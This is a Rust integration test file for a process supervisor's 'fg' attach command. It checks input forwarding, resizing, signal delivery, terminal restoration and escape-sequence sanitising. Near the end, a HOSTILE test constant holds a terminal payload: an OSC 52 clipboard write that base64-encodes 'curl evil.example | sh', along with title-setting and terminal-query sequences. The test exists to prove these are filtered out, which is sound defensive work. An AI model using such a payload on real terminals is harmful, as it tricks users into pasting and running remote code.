//! `taskmasterctl fg`: attach to a live program like tmux, detach without harm. Each test runs
//! taskmasterctl on a PTY the test holds, as a person at a terminal would.

use crate::SOON;
use std::ffi::OsStr;
use tests::{bin, wait_until, Daemon, PtySession, Scratch};

fn fg(d: &Daemon, name: &str, extra: &[&str]) -> PtySession {
    let ctl = bin("taskmasterctl");
    let mut args: Vec<&OsStr> = vec![ctl.as_os_str(), OsStr::new("-s"), d.socket.as_os_str(), OsStr::new("fg")];
    args.extend(extra.iter().map(OsStr::new));
    args.push(OsStr::new(name));
    PtySession::spawn(&args, 30, 100)
}

#[test]
fn keystrokes_reach_a_pty_program_and_echo_back() {
    let d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    let mut s = fg(&d, "cat", &[]);
    s.expect("\x1b[2J"); // the screen redraw at attach
    s.send(b"hello there\r");
    s.expect("hello there\r\nhello there\r\n"); // the tty's echo, then cat's copy
    s.send(b"\x1d");
    assert!(s.wait().success());
    s.expect("[detached from cat]");
}

#[test]
fn the_window_size_follows_the_client_at_attach_and_on_sigwinch() {
    let d = Daemon::start("programs:\n  w:\n    command: bash -c 'trap \"stty size\" WINCH; echo armed; while :; do sleep 0.05; done'\n    pty: true\n    startsecs: 0\n");
    // Attach only once the trap is set: the attach itself resizes the terminal.
    wait_until("the WINCH trap set", SOON, || d.ctl(&["tail", "w"]).stdout.contains("armed"));
    let mut s = fg(&d, "w", &[]);
    s.expect("30 100");
    let m = s.mark();
    s.stty(&["rows", "40", "cols", "120"]); // the terminal is resized: taskmasterctl gets SIGWINCH
    s.expect_after(m, "40 120");
    s.send(b"\x1d");
    assert!(s.wait().success());
}

#[test]
fn ctrl_c_reaches_the_program_and_the_client_stays_attached() {
    // The probe counts SIGINTs with sigwait: each is seen, none can fall between two handlers.
    let scratch = Scratch::new();
    let probe = scratch.probe(&crate::probe());
    let d = Daemon::start_in(
        scratch,
        &format!("programs:\n  t:\n    command: {} sigint\n    pty: true\n    startsecs: 0\n", probe.display()),
    );
    wait_until("SIGINT blocked and awaited", SOON, || d.ctl(&["tail", "t"]).stdout.contains("armed"));
    let pid = d.proc_pid("t");
    let mut s = fg(&d, "t", &[]);
    s.expect("\x1b[2J");
    s.send(b"\x03");
    s.expect("got-int 1");
    s.send(b"\x03");
    s.expect("got-int 2");
    // Detach: the program keeps running, same pid.
    s.send(b"\x1d");
    assert!(s.wait().success());
    assert_eq!(d.state("t"), "RUNNING");
    assert_eq!(d.proc_pid("t"), pid);
}

#[test]
fn detach_restores_the_terminal_exactly() {
    let d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    let mut s = fg(&d, "cat", &["--detach-keys", "ctrl-p,ctrl-q"]);
    let before = s.initial_stty.clone();
    s.expect("\x1b[2J");
    assert_ne!(s.stty(&["-g"]), before, "raw mode while attached");
    s.send(b"\x10x\x10\x11");
    assert!(s.wait().success());
    assert_eq!(s.stty(&["-g"]), before);
}

#[test]
fn two_clients_both_see_a_line_the_program_prints() {
    let sc = Scratch::new();
    let trigger = sc.path("go");
    let yaml = format!("programs:\n  p:\n    command: /bin/sh -c 'while [ ! -e {} ]; do sleep 0.02; done; echo shared-line; exec sleep 1000'\n    pty: true\n    startsecs: 0\n", trigger.display());
    let d = Daemon::start_in(sc, &yaml);
    d.wait_state("p", "RUNNING", SOON);
    let mut a = fg(&d, "p", &[]);
    let mut b = fg(&d, "p", &[]);
    a.expect("\x1b[2J");
    b.expect("\x1b[2J");
    std::fs::write(&trigger, "").unwrap();
    a.expect("shared-line");
    b.expect("shared-line");
    a.send(b"\x1d");
    assert!(a.wait().success());
    // One leaving does not disturb the other.
    b.send(b"\x1d");
    assert!(b.wait().success());
    assert_eq!(d.state("p"), "RUNNING");
}

#[test]
fn attaching_redraws_the_current_full_screen() {
    let d = Daemon::start(
        "programs:\n  grid:\n    command: /bin/sh -c 'printf \"\\033[2J\\033[H\"; for i in 1 2 3 4 5; do printf \"GRID-ROW-$i |#|#|#|\\r\\n\"; done; exec sleep 1000'\n    pty: true\n    startsecs: 0\n",
    );
    d.wait_state("grid", "RUNNING", SOON);
    wait_until("the grid drawn", SOON, || d.ctl(&["tail", "grid"]).stdout.contains("GRID-ROW-5"));
    let mut s = fg(&d, "grid", &[]);
    for i in 1..=5 {
        s.expect(&format!("GRID-ROW-{i} |#|#|#|"));
    }
    s.send(b"\x1d");
    assert!(s.wait().success());
}

#[test]
fn the_program_exiting_ends_the_session_with_its_status() {
    let d = Daemon::start("programs:\n  q:\n    command: /bin/sh -c 'read x; echo bye; exit 3'\n    pty: true\n    startsecs: 0\n    autorestart: never\n");
    d.wait_state("q", "RUNNING", SOON);
    let mut s = fg(&d, "q", &[]);
    s.expect("\x1b[2J");
    s.send(b"go\r");
    let status = s.wait();
    s.expect("bye");
    s.expect("[q exited with status 3]");
    assert!(status.success());
}

#[test]
fn fg_on_a_pipe_program_forwards_lines_and_leaves_it_running() {
    let d = Daemon::start(
        "programs:\n  echo:\n    command: /bin/sh -c 'while read l; do echo \"echo:$l\"; done'\n    startsecs: 0\n",
    );
    d.wait_state("echo", "RUNNING", SOON);
    let pid = d.proc_pid("echo");
    let mut s = fg(&d, "echo", &[]);
    s.send(b"abc\r");
    s.expect("echo:abc");
    s.send(b"\x04"); // Ctrl-D: line mode, so this ends the session
    assert!(s.wait().success());
    s.expect("[detached from echo]");
    assert_eq!((d.state("echo").as_str(), d.proc_pid("echo")), ("RUNNING", pid));
    // Its stdin is still open: a second session still reaches it.
    let mut s = fg(&d, "echo", &[]);
    s.send(b"again\r");
    s.expect("echo:again");
    s.send(b"\x1d\r");
    assert!(s.wait().success());
}

#[test]
fn the_terminal_is_restored_when_the_client_is_killed_or_the_daemon_goes_away() {
    let mut d = Daemon::start("programs:\n  cat:\n    command: cat\n    pty: true\n    startsecs: 0\n");
    d.wait_state("cat", "RUNNING", SOON);
    // SIGTERM to taskmasterctl (setsid execs it in place: the child's pid is taskmasterctl's).
    let mut s = fg(&d, "cat", &[]);
    s.expect("\x1b[2J");
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(s.child.id() as i32), nix::sys::signal::Signal::SIGTERM).unwrap();
    assert!(s.wait().success());
    assert_eq!(s.stty(&["-g"]), s.initial_stty);
    assert_eq!(d.state("cat"), "RUNNING");
    // The daemon shuts down under an attached client.
    let mut s = fg(&d, "cat", &[]);
    s.expect("\x1b[2J");
    d.signal(nix::sys::signal::Signal::SIGTERM);
    assert_eq!(d.wait_exit(SOON), 0);
    let status = s.wait();
    assert_eq!(s.stty(&["-g"]), s.initial_stty);
    assert!(status.code() == Some(0) || status.code() == Some(4), "{status:?}: {:?}", s.seen);
}

/// What a hostile program prints: an OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0
/// title, a cursor-position query (DSR), then an ordinary coloured marker.
pub(crate) const HOSTILE: &str = "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\033]0;pwned-title\\007\\033[6n\\033[31mvisible-marker\\033[0m\\r\\n'";

/// The screen shows the marker and its colour, and nothing that writes the clipboard, sets the
/// title or queries the terminal.
pub(crate) fn assert_sanitized(seen: &str) {
    assert!(seen.contains("\x1b[31mvisible-marker\x1b[0m"), "the coloured marker is missing: {seen:?}");
    for bad in ["]52", "pwned-title", "\x1b[6n"] {
        assert!(!seen.contains(bad), "{bad:?} reached the terminal: {seen:?}");
    }
}

#[test]
fn escape_sequences_that_write_the_clipboard_set_the_title_or_query_never_reach_the_terminal() {
    let sc = Scratch::new();
    let script = sc.path("hostile.sh");
    std::fs::write(&script, format!("read go\n{HOSTILE}\nexec sleep 1000\n")).unwrap();
    let pipe_script = sc.path("hostile-pipe.sh");
    std::fs::write(&pipe_script, format!("read go\n{HOSTILE}\nexec sleep 1000\n")).unwrap();
    let yaml = format!(
        "programs:\n  evil:\n    command: /bin/sh {}\n    pty: true\n    startsecs: 0\n  evilpipe:\n    command: /bin/sh {}\n    startsecs: 0\n",
        script.display(),
        pipe_script.display()
    );
    let d = Daemon::start_in(sc, &yaml);
    d.wait_state("evil", "RUNNING", SOON);
    d.wait_state("evilpipe", "RUNNING", SOON);
    for name in ["evil", "evilpipe"] {
        let mut s = fg(&d, name, &[]);
        if name == "evil" {
            s.expect("\x1b[2J");
        }
        s.send(b"go\r");
        s.expect("visible-marker\x1b[0m");
        s.send(b"\x1d\r");
        assert!(s.wait().success());
        assert_sanitized(&s.seen);
    }
}
